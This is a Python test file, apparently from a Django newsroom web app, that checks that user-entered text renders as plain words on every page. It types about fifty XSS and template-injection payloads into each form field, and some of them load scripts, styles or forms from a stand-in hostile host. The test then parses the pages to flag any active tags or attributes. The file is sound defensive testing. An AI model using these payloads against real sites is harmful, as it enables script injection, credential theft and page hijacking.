"""Words of people stay words: whatever is typed into any field, no page gets an element, an
attribute or an address from it.
"""

from collections.abc import Iterator
from html.parser import HTMLParser
from typing import Final

import pytest
from django.utils import timezone

from kimid.events.permissions import Role
from kimid.newsroom.actions import confirmations, content, publishing, writing
from kimid.newsroom.actions import talk as talk_actions
from kimid.newsroom.models import Decision, SourceKind, Story, TalkMode
from kimid.pagecache.middleware import PageCacheMiddleware
from kimid.people.models import Person
from kimid.registry.models import Kim
from kimid.sites.guard import on_site
from kimid.ui.stylesheets import STYLESHEETS, stylesheet
from tests import build
from tests.matrix.browser import RUANG, Browser, session_of

pytestmark = [pytest.mark.django_db, pytest.mark.one_database]

_HOST: Final = "kim-kenari.kim.localhost"
PAYLOADS: Final = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//jahat.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "` onload=`alert(1)",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<!--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<object data=javascript:alert(1)>",
    "<embed src=//jahat.example>",
    "<base href=//jahat.example/>",
    "<meta http-equiv=refresh content='0;url=//jahat.example'>",
    "<link rel=stylesheet href=//jahat.example/x.css>",
    "<style>*{display:none}</style>",
    "<form action=//jahat.example><input name=p>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<x contenteditable onblur=alert(1)>",
    "{{ 7|add:7 }}{% now 'Y' %}",
    "{% include '403.html' %}",
    "{{ request.session.session_key }}",
    "${7*7}",
    "<%= 7*7 %>",
    "#{7*7}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u003cscript\u003ealert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<\u200bscript>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "javascript:alert(1)//",
    "\u202e<script>alert(1)</script>",
    "\u2028<script>alert(1)</script>",
    "<!--berat WIB--><script>alert(1)</script>",
)
_NEVER: Final = frozenset(
    (
        "script",
        "iframe",
        "object",
        "embed",
        "base",
        "img",
        "video",
        "source",
        "marquee",
        "math",
        "isindex",
        "x",
        "frame",
        "applet",
    )
)


_SHEETS: Final = frozenset(stylesheet(name) for name in STYLESHEETS)


class Reading(HTMLParser):
    """What a browser makes of a page: the tags and attributes that could do harm."""

    def __init__(self) -> None:
        super().__init__()
        self.harm: list[str] = []
        self._is_style = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._is_style = tag == "style"
        if tag in _NEVER and not _is_ours(tag, dict(attrs)):
            self.harm.append(f"<{tag}>")
        for name, value in attrs:
            address = (
                name in ("href", "src", "action", "formaction") and (value or "").strip().lower()
            )
            if name.startswith("on") or name in (
                "style",
                "srcdoc",
                "http-equiv",
                "contenteditable",
                "autofocus",
            ):
                self.harm.append(f"<{tag} {name}>")
            if (
                address
                and ("javascript:" in address or "jahat.example" in address)
                and not address.startswith("https://wa.me/?text=")
            ):
                self.harm.append(f"<{tag} {name}={value}>")

    def handle_data(self, data: str) -> None:
        if self._is_style and data not in _SHEETS:
            self.harm.append(f"<style>{data[:40]}")

    def handle_endtag(self, tag: str) -> None:
        self._is_style = False


def _is_ours(tag: str, attrs: dict[str, str | None]) -> bool:
    """A script or picture from an address of ours, or data; nothing that a payload of the list
    could be taken for.
    """
    source = attrs.get("src") or attrs.get("srcset") or ""
    if tag == "script":
        return source.startswith("/skrip/") or attrs.get("type") == "application/ld+json"
    return tag in ("img", "source") and (
        not source or source.startswith(("/", "http://media.localhost"))
    )


def _harm(page: bytes) -> list[str]:
    reading = Reading()
    reading.feed(page.decode())
    return reading.harm


def _tell(kim: Kim, payload: str) -> tuple[Story, str]:
    """A story with the payload in every text that somebody can type; gives it and the token of a
    link.
    """
    author, other = (build.member(kim, name=payload[:100]) for _ in range(2))
    now = timezone.now()
    with on_site(kim.site):
        words = content.ContentData(
            payload, f"{payload}. {payload}", f"{payload}\n\n{payload}\n{payload}"
        )
        note = content.SourceNote(SourceKind.WORD_OF_MOUTH, payload, now.date())
        story = writing.write(kim.site, content=words, source=note, by=author, at=now)
        writing.send(story, by=author, at=now)
        talk_actions.post_message(story, text=payload, by=author, at=now)
        talk = {"names": payload, "reason": payload}
        talk_actions.record_talk(
            story,
            form=TalkMode.MEETING,
            decision=Decision.PUBLISH,
            people_count=2,
            **talk,
            by=other,
            at=now,
        )
        _, token = confirmations.ask_by_link(
            story, holder_name=f"{payload[:90]} ya", by=other, at=now
        )
        confirmations.confirm(story, how_known=payload, by=other, at=now)
    return story, token


def _pages(
    gate: PageCacheMiddleware, editor: Person, story: Story, token: str, payload: str
) -> Iterator[bytes]:
    """Every page that shows the story, before, while and after it is public; and the forms that
    come back with questions.
    """
    browser = Browser(gate, session_of(editor))
    reader = Browser(gate)
    inside = f"/s/kim-kenari/berita/{story.public_id}/"
    now = timezone.now()
    yield reader.send("GET", RUANG, f"/pastikan/{token}/").body
    for path in (inside, f"{inside}ubah/"):
        yield browser.send("GET", RUANG, path).body
    for verb, name in (
        ("tautan", "holder_name"),
        ("pastikan", "how_known"),
        ("putusan", "decision"),
        ("sumber", "source_kind"),
    ):
        yield browser.send(
            "POST",
            RUANG,
            f"{inside}{verb}/",
            {name: payload[:90] + (" ya" if verb == "tautan" else "x" * 400)},
        ).body
    publishing.publish(story, by=editor, at=now)
    gate.store.catch_up()
    yield reader.send("GET", _HOST, story.path).body
    publishing.withdraw(story, reason=payload, by=editor, at=now)
    gate.store.catch_up()
    yield reader.send("GET", _HOST, story.path).body
    yield browser.send("GET", RUANG, inside).body


def test_payloads_stay_words_on_every_page_of_a_story(gate: PageCacheMiddleware) -> None:
    """Every third of the fifty. `./kim prove payloads` puts two thousand into every field."""
    assert len(set(PAYLOADS)) >= 50
    kim = build.kim(label="kim-kenari", name="KIM <script>alert(1)</script>")
    editor = build.member(kim, Role.EDITOR, name="<script>alert(1)</script>")
    for payload in PAYLOADS[::3]:
        story, token = _tell(kim, payload)
        for number, page in enumerate(_pages(gate, editor, story, token, payload)):
            assert _harm(page) == [], (payload, number)
            assert b"</html>" in page


def test_fifty_payloads_stay_words_in_every_list(gate: PageCacheMiddleware) -> None:
    kim = build.kim(label="kim-kenari", name="KIM <script>alert(1)</script>")
    editor = build.member(kim, Role.EDITOR, name="<script>alert(1)</script>")
    office = build.officer("6112")
    for number, payload in enumerate(PAYLOADS):
        story, _ = _tell(kim, payload)
        if number % 2:
            publishing.publish(story, by=editor, at=timezone.now())
    gate.store.catch_up()
    seen = [Browser(gate).send("GET", host, path) for host, path in _LISTS]
    for person, paths in ((editor, ("", "berita/", "tulis/")), (office, ("", "meja/", "angka/"))):
        label = "kim-kenari" if person is editor else "kab-kubu-raya"
        browser = Browser(gate, session_of(person))
        seen += [
            browser.send("GET", RUANG, path)
            for path in ("/tempat/", *(f"/s/{label}/{path}" for path in paths))
        ]

    for answer in seen:
        assert answer.status == 200
        assert _harm(answer.body) == []
    assert any("<img src=x onerror" in answer.text for answer in seen)


_LISTS: Final = (
    (_HOST, "/"),
    (_HOST, "/?hal=2"),
    (_HOST, "/profil/"),
    ("kim.localhost", "/"),
    ("kim.localhost", "/?hal=2"),
    ("kim.localhost", "/kim/"),
    ("kab-kubu-raya.kim.localhost", "/"),
)
